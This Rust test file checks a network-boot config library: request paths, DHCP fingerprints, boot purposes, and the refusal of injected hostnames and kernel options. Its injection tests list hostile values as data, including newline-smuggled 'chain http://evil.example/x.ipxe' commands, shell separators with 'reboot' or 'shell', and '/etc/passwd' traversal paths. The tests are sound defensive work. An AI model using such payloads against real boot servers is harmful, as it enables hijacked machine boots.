//! The public API: request paths, DHCP fingerprints, purposes, and the
//! refusal of anything that could change a script's structure.

use maas_boot::{
    BootConfigError, BootConfigRequest, BootMethod, BootParams, BootPurpose, ConfigKind, HttpUrl,
    ImagePaths, KernelCommandLine, KernelParam, grub_cfg, ipxe_script, pxelinux_cfg,
};
use maas_core::{Architecture, Hostname, MacAddress, SystemId};

fn mac() -> MacAddress {
    MacAddress::parse("52:54:00:12:34:56").unwrap()
}

fn params() -> BootParams {
    let mut p = BootParams::new(
        HttpUrl::parse("http://10.99.0.1:5248").unwrap(),
        Architecture::amd64(),
        ImagePaths::maas("ubuntu", "amd64", "ga-24.04", "noble", "stable").unwrap(),
    );
    p.mac = Some(mac());
    p.hostname = Some(Hostname::parse("node-1").unwrap());
    p.system_id = Some(SystemId::parse("abc123").unwrap());
    p
}

// ---- request paths ----

#[test]
fn request_paths_that_are_recognised() {
    let m = Some(mac());
    let cases = [
        ("pxelinux.cfg/default", ConfigKind::Pxelinux, None),
        ("pxelinux.cfg/01-52-54-00-12-34-56", ConfigKind::Pxelinux, m),
        (
            "/pxelinux.cfg/01-52-54-00-12-34-56",
            ConfigKind::Pxelinux,
            m,
        ),
        ("grub/grub.cfg", ConfigKind::Grub, None),
        ("/grub/grub.cfg", ConfigKind::Grub, None),
        ("grub/grub.cfg-52:54:00:12:34:56", ConfigKind::Grub, m),
        ("//grub/grub.cfg-52:54:00:12:34:56", ConfigKind::Grub, m),
        ("grub/grub.cfg-01-52-54-00-12-34-56", ConfigKind::Grub, m),
        ("ipxe/boot.ipxe", ConfigKind::Ipxe, None),
        ("/ipxe/mac-525400123456.ipxe", ConfigKind::Ipxe, m),
        ("ipxe/mac-525400123456.ipxe", ConfigKind::Ipxe, m),
    ];
    for (path, kind, mac) in cases {
        let req = BootConfigRequest::parse(path).unwrap_or_else(|| panic!("{path}"));
        assert_eq!(req, BootConfigRequest { kind, mac }, "{path}");
        // The canonical path parses back to the same request.
        assert_eq!(BootConfigRequest::parse(&req.path()), Some(req), "{path}");
    }
    // Hex digits in either case; the canonical path is lowercase.
    let upper = BootConfigRequest::parse("pxelinux.cfg/01-52-54-00-AB-cd-EF").unwrap();
    assert_eq!(
        upper.mac,
        Some(MacAddress::parse("52:54:00:ab:cd:ef").unwrap())
    );
    assert_eq!(upper.path(), "pxelinux.cfg/01-52-54-00-ab-cd-ef");
    let req = BootConfigRequest {
        kind: ConfigKind::Grub,
        mac: Some(mac()),
    };
    assert_eq!(req.path(), "grub/grub.cfg-52:54:00:12:34:56");
    assert_eq!(
        BootConfigRequest {
            kind: ConfigKind::Pxelinux,
            mac: Some(mac())
        }
        .path(),
        "pxelinux.cfg/01-52-54-00-12-34-56"
    );
    assert_eq!(
        BootConfigRequest {
            kind: ConfigKind::Ipxe,
            mac: Some(mac())
        }
        .to_string(),
        "ipxe/mac-525400123456.ipxe"
    );
}

#[test]
fn request_paths_that_are_not() {
    for path in [
        // traversal and path tricks
        "../pxelinux.cfg/default",
        "pxelinux.cfg/../pxelinux.cfg/default",
        "pxelinux.cfg/./default",
        "pxelinux.cfg//default",
        "grub/../grub/grub.cfg",
        "grub\\grub.cfg",
        "pxelinux.cfg\\default",
        "pxelinux.cfg/default/",
        "pxelinux.cfg/default/..",
        "grub/grub.cfg%2d52:54:00:12:34:56",
        "ipxe/boot.ipxe?x=1",
        "ipxe/boot.ipxe#x",
        "ipxe/boot.ipxe\0",
        "grub/grub.cfg\n",
        " grub/grub.cfg",
        "/etc/passwd",
        "grub/../../etc/passwd",
        // wrong MACs
        "pxelinux.cfg/01-52-54-00-12-34",
        "pxelinux.cfg/01-52-54-00-12-34-56-78",
        "pxelinux.cfg/01-52-54-00-12-34-5g",
        "pxelinux.cfg/01-52:54:00:12:34:56",
        "pxelinux.cfg/52-54-00-12-34-56",
        "pxelinux.cfg/06-52-54-00-12-34-56",
        "pxelinux.cfg/01-525-4-00-12-34-56",
        "pxelinux.cfg/01-+5-54-00-12-34-56",
        "grub/grub.cfg-52-54-00-12-34-56",
        "grub/grub.cfg-52:54:00:12:34",
        "grub/grub.cfg-52:54:00:12:34:56:",
        "grub/grub.cfg-52.54.00.12.34.56",
        "grub/grub.cfg-",
        "ipxe/mac-52540012345.ipxe",
        "ipxe/mac-5254001234567.ipxe",
        "ipxe/mac-52540012345z.ipxe",
        "ipxe/mac-52:54:00:12:34:56.ipxe",
        "ipxe/mac-525400123456",
        "ipxe/525400123456.ipxe",
        // what loaders also ask for, which we leave to "not found"
        "pxelinux.cfg/564d2a9c-0001-0002-0003-000000000004",
        "pxelinux.cfg/0A63000A",
        "grub/x86_64-efi/grub.cfg",
        "lpxelinux.0",
        "ldlinux.c32",
        // garbage
        "",
        "/",
        "grub",
        "grub/",
        "pxelinux.cfg",
        "ipxe/",
        "GRUB/grub.cfg",
        "grub/GRUB.CFG",
        "grub/grub.cfgx",
        "grub/grub.cfg-ééé",
        &"a/".repeat(1000),
    ] {
        assert_eq!(BootConfigRequest::parse(path), None, "{path:?}");
    }
}

// ---- DHCP ----

#[test]
fn methods_from_dhcp_fingerprints() {
    // The fingerprints seen in the lab (PEERS.md).
    assert_eq!(
        BootMethod::from_dhcp(0, true, "PXEClient:Arch:00000:UNDI:002001"),
        Some(BootMethod::Ipxe),
        "BIOS iPXE ROM"
    );
    assert_eq!(
        BootMethod::from_dhcp(7, false, "PXEClient:Arch:00007:UNDI:003000"),
        Some(BootMethod::UefiAmd64Grub),
        "OVMF PXE"
    );
    assert_eq!(
        BootMethod::from_dhcp(7, true, "PXEClient:Arch:00007:UNDI:003010"),
        Some(BootMethod::Ipxe),
        "iPXE EFI"
    );
    assert_eq!(
        BootMethod::from_dhcp(16, false, "HTTPClient:Arch:00016:UNDI:003001"),
        Some(BootMethod::UefiAmd64Http),
        "UEFI HTTP boot"
    );
    // The rest of the option-93 table.
    assert_eq!(
        BootMethod::from_dhcp(0, false, "PXEClient:Arch:00000:UNDI:002001"),
        Some(BootMethod::PxeBios)
    );
    assert_eq!(
        BootMethod::from_dhcp(9, false, "PXEClient:Arch:00009:UNDI:003016"),
        Some(BootMethod::UefiAmd64Grub)
    );
    assert_eq!(
        BootMethod::from_dhcp(7, false, "HTTPClient:Arch:00007:UNDI:003000"),
        Some(BootMethod::UefiAmd64Http)
    );
    assert_eq!(
        BootMethod::from_dhcp(11, false, "PXEClient:Arch:00011:UNDI:003000"),
        Some(BootMethod::UefiArm64Grub)
    );
    // Not network boot clients, or nothing to give them.
    assert_eq!(BootMethod::from_dhcp(0, false, ""), None);
    assert_eq!(BootMethod::from_dhcp(0, false, "MSFT 5.0"), None);
    assert_eq!(BootMethod::from_dhcp(0, false, "udhcp 1.36.1"), None);
    assert_eq!(BootMethod::from_dhcp(0, true, "udhcp 1.36.1"), None);
    assert_eq!(
        BootMethod::from_dhcp(6, false, "PXEClient:Arch:00006:UNDI:003000"),
        None
    );
    assert_eq!(
        BootMethod::from_dhcp(19, false, "HTTPClient:Arch:00019:UNDI:003000"),
        None
    );
    assert_eq!(
        BootMethod::from_dhcp(12, false, "PXEClient:Arch:00012"),
        None
    );
    assert_eq!(
        BootMethod::from_dhcp(0, false, "HTTPClient:Arch:00000"),
        None
    );
    assert_eq!(
        BootMethod::from_dhcp(11, false, "HTTPClient:Arch:00011"),
        None
    );
    assert_eq!(BootMethod::from_dhcp(u16::MAX, false, "PXEClient"), None);
}

#[test]
fn boot_files_and_what_reads_next() {
    let rack = HttpUrl::parse("http://10.99.0.1:5248/").unwrap();
    let table = [
        (BootMethod::PxeBios, "lpxelinux.0", ConfigKind::Pxelinux),
        (BootMethod::UefiAmd64Grub, "bootx64.efi", ConfigKind::Grub),
        (
            BootMethod::Ipxe,
            "http://10.99.0.1:5248/ipxe/boot.ipxe",
            ConfigKind::Ipxe,
        ),
        (
            BootMethod::UefiAmd64Http,
            "http://10.99.0.1:5248/bootx64.efi",
            ConfigKind::Grub,
        ),
        (BootMethod::UefiArm64Grub, "bootaa64.efi", ConfigKind::Grub),
    ];
    for (method, file, kind) in table {
        assert_eq!(method.dhcp_filename(&rack), file, "{method}");
        assert_eq!(method.config_kind(), kind, "{method}");
    }
    assert_eq!(BootMethod::ALL.len(), table.len());
    // The iPXE boot file is the default script request.
    assert_eq!(
        BootConfigRequest::parse(BootMethod::Ipxe.boot_file()),
        Some(BootConfigRequest {
            kind: ConfigKind::Ipxe,
            mac: None
        })
    );
}

// ---- purposes and errors ----

#[test]
fn credentials_need_a_system_id() {
    let mut p = params();
    p.system_id = None;
    for kind in ConfigKind::ALL {
        for purpose in [
            BootPurpose::Commission,
            BootPurpose::Deploy,
            BootPurpose::Rescue,
            BootPurpose::Erase,
        ] {
            assert_eq!(
                kind.render(purpose, &p),
                Err(BootConfigError::MissingSystemId { purpose }),
                "{kind} {purpose}"
            );
        }
        for purpose in [
            BootPurpose::Enlist,
            BootPurpose::LocalBoot,
            BootPurpose::Poweroff,
        ] {
            assert!(kind.render(purpose, &p).is_ok(), "{kind} {purpose}");
        }
    }
    let e = BootConfigError::MissingSystemId {
        purpose: BootPurpose::Deploy,
    };
    assert_eq!(
        e.to_string(),
        "booting to deploy needs the machine's system id"
    );
}

#[test]
fn a_command_line_too_long_is_refused() {
    let mut p = params();
    p.extra_options = (0..200)
        .map(|i| KernelParam::new(&format!("opt{i}=0123456789")).unwrap())
        .collect();
    for kind in ConfigKind::ALL {
        assert!(matches!(
            kind.render(BootPurpose::Commission, &p),
            Err(BootConfigError::CommandLineTooLong { max: 2047, .. })
        ));
        // Local boot and power off load no kernel, so they still render.
        assert!(kind.render(BootPurpose::LocalBoot, &p).is_ok());
    }
}

#[test]
fn only_ephemeral_purposes_have_a_command_line() {
    let p = params();
    assert!(KernelCommandLine::ephemeral(BootPurpose::LocalBoot, &p, ConfigKind::Ipxe).is_err());
    assert!(KernelCommandLine::ephemeral(BootPurpose::Poweroff, &p, ConfigKind::Grub).is_err());
    let c = KernelCommandLine::ephemeral(BootPurpose::Enlist, &p, ConfigKind::Ipxe).unwrap();
    let line = c.render(ConfigKind::Ipxe);
    assert!(line.contains(
        "cloud-config-url=http://10.99.0.1:5248/MAAS/metadata/latest/enlist-preseed/?op=get_enlist_preseed"
    ));
    assert!(line.contains(" initrd=boot-initrd"));
    let grub = KernelCommandLine::ephemeral(BootPurpose::Enlist, &p, ConfigKind::Grub).unwrap();
    assert!(!grub.render(ConfigKind::Grub).contains("initrd="));
}

// ---- injection ----

#[test]
fn a_hostname_cannot_carry_a_second_command() {
    for evil in [
        "node-1\nshell",
        "node-1 || shell",
        "node-1;reboot",
        "node-1'",
        "node-1\"",
        "${net0/ip}",
        "node-1\r\nchain http://evil/",
    ] {
        assert!(Hostname::parse(evil).is_err(), "{evil:?}");
    }
}

#[test]
fn kernel_options_that_would_break_a_script_are_refused() {
    for evil in [
        "quiet\nshell",
        "quiet\r\nchain http://evil.example/x.ipxe",
        "quiet || shell",
        "||",
        "&&",
        ";",
        "a;shell",
        "#",
        "#comment",
        "x=${root-path}",
        "x=$(reboot)",
        "x='y'",
        "x=\"y\"",
        "x=`y`",
        "x\\",
        "a}\nmenuentry",
        "x=a\tb",
        "x=\u{0}",
        "console=ttyS0 ; shell",
    ] {
        assert!(
            matches!(
                KernelParam::new(evil),
                Err(BootConfigError::InvalidKernelParam { .. })
            ),
            "{evil:?} was accepted"
        );
    }
    // A tag's option string is split on whitespace; a word with a special
    // character refuses the whole string.
    for evil in [
        "quiet || shell",
        "quiet ; shell",
        "x=${net0/ip} quiet",
        "nomodeset 'x'",
        "a #b",
    ] {
        assert!(KernelParam::split_options(evil).is_err(), "{evil:?}");
    }
    // A newline in it only separates words: they stay on the kernel line.
    let mut p = params();
    p.extra_options = KernelParam::split_options("quiet\nshell").unwrap();
    let script = ipxe_script(BootPurpose::Commission, &p).unwrap();
    assert!(
        script
            .lines()
            .any(|l| l.starts_with("kernel ") && l.ends_with(" quiet shell"))
    );
    assert!(!script.lines().any(|l| l == "shell"));

    let e = KernelParam::new("a\nb").unwrap_err().to_string();
    assert_eq!(
        e,
        "invalid kernel parameter \"a\\nb\": whitespace would split it into several words"
    );
}

/// A small deterministic generator: no dependency, same cases every run.
struct Lcg(u64);
impl Lcg {
    fn next(&mut self) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        self.0 >> 33
    }
}

/// Splits a GRUB shell line into words the way GRUB's lexer would for
/// what we emit: single quotes group, everything else must be a plain
/// character or one of our two variables. Panics on anything else.
fn grub_words(line: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut cur = String::new();
    let mut chars = line.chars().peekable();
    let mut in_word = false;
    while let Some(c) = chars.next() {
        match c {
            '\'' => {
                in_word = true;
                for q in chars.by_ref() {
                    if q == '\'' {
                        break;
                    }
                    cur.push(q);
                }
            }
            ' ' => {
                if in_word {
                    words.push(std::mem::take(&mut cur));
                    in_word = false;
                }
            }
            '$' => {
                let rest: String = chars.clone().collect();
                assert!(
                    rest.starts_with("{net_default_mac}"),
                    "unexpected expansion in {line:?}"
                );
                cur.push('$');
                in_word = true;
            }
            c if c.is_ascii_alphanumeric() || "_.,:/=+@%-()".contains(c) => {
                cur.push(c);
                in_word = true;
            }
            '{' | '}' if cur.ends_with('$') || cur.ends_with("net_default_mac") => {
                cur.push(c);
                in_word = true;
            }
            other => panic!("unquoted {other:?} in GRUB line {line:?}"),
        }
    }
    if in_word {
        words.push(cur);
    }
    words
}

#[test]
fn any_accepted_option_stays_one_word_in_every_loader() {
    let alphabet: Vec<char> = "aZ09=,.:/-_+@%!~^*?[](){}<>|&;#$'\"`\\ \t\n\r\u{0}\u{7f}é"
        .chars()
        .collect();
    let mut rng = Lcg(0x5eed);
    let mut accepted = 0;
    for _ in 0..3000 {
        let len = 1 + (rng.next() % 12) as usize;
        let word: String = (0..len)
            .map(|_| alphabet[(rng.next() % alphabet.len() as u64) as usize])
            .collect();
        let Ok(opt) = KernelParam::new(&word) else {
            continue;
        };
        accepted += 1;
        let mut p = params();
        p.extra_options = vec![opt];
        for with_mac in [true, false] {
            p.mac = with_mac.then(mac);
            let purpose = if with_mac {
                BootPurpose::Commission
            } else {
                BootPurpose::Enlist
            };

            let ipxe = ipxe_script(purpose, &p).unwrap();
            let kernel = ipxe.lines().find(|l| l.starts_with("kernel ")).unwrap();
            let tokens: Vec<&str> = kernel.split_ascii_whitespace().collect();
            assert_eq!(tokens.last(), Some(&word.as_str()), "{word:?}");
            assert!(
                tokens
                    .iter()
                    .all(|t| !t.starts_with('#') && !["||", "&&", ";"].contains(t))
            );
            assert_eq!(
                kernel.matches('$').count(),
                usize::from(!with_mac),
                "{kernel}"
            );

            let grub = grub_cfg(purpose, &p).unwrap();
            let linux = grub.lines().find(|l| l.starts_with("\tlinux ")).unwrap();
            let words = grub_words(linux.trim_start());
            assert_eq!(words.last(), Some(&word), "{linux}");

            let pxe = pxelinux_cfg(purpose, &p).unwrap();
            let append = pxe.lines().find(|l| l.starts_with("  APPEND ")).unwrap();
            assert!(append.ends_with(&format!(" {word}")));

            // The word never adds a line to any of them.
            let mut plain = p.clone();
            plain.extra_options.clear();
            assert_eq!(
                ipxe.lines().count(),
                ipxe_script(purpose, &plain).unwrap().lines().count()
            );
            assert_eq!(
                grub.lines().count(),
                grub_cfg(purpose, &plain).unwrap().lines().count()
            );
            assert_eq!(
                pxe.lines().count(),
                pxelinux_cfg(purpose, &plain).unwrap().lines().count()
            );
        }
    }
    assert!(accepted > 100, "only {accepted} words were accepted");
}

#[test]
fn every_rendered_file_is_clean_text() {
    for kind in ConfigKind::ALL {
        for purpose in BootPurpose::ALL {
            let out = kind.render(purpose, &params()).unwrap();
            assert!(out.ends_with('\n'), "{kind} {purpose}");
            assert!(out.is_ascii(), "{kind} {purpose}");
            assert!(!out.contains('\r'), "{kind} {purpose}");
            // Only GRUB files are indented with tabs.
            assert!(
                kind == ConfigKind::Grub || !out.contains('\t'),
                "{kind} {purpose}"
            );
            assert!(
                out.lines().all(|l| !l.ends_with(' ')),
                "{kind} {purpose}: trailing space"
            );
        }
    }
}

#[test]
fn parsers_never_panic() {
    let alphabet: Vec<char> = "aZ09:-./\\[]@%?#$ \n\0éhtp".chars().collect();
    let prefixes = [
        "",
        "http://",
        "http://[",
        "pxelinux.cfg/01-",
        "grub/grub.cfg-",
        "ipxe/mac-",
    ];
    let mut rng = Lcg(7);
    for i in 0..20_000 {
        let len = (rng.next() % 40) as usize;
        let tail: String = (0..len)
            .map(|_| alphabet[(rng.next() % alphabet.len() as u64) as usize])
            .collect();
        let s = format!("{}{tail}", prefixes[i % prefixes.len()]);
        let _ = BootConfigRequest::parse(&s);
        let _ = HttpUrl::parse(&s);
        let _ = maas_boot::RackPath::parse(&s);
        let _ = KernelParam::new(&s);
        let _ = KernelParam::split_options(&s);
        let _ = ImagePaths::maas(&s, "amd64", "ga-24.04", "noble", "stable");
        let _ = BootMethod::from_dhcp((rng.next() % 64) as u16, i % 2 == 0, &s);
        if let Ok(u) = HttpUrl::parse(&s) {
            // Whatever parses prints back to something that parses the same.
            assert_eq!(HttpUrl::parse(&u.to_string()), Ok(u.clone()), "{s:?}");
        }
    }
}
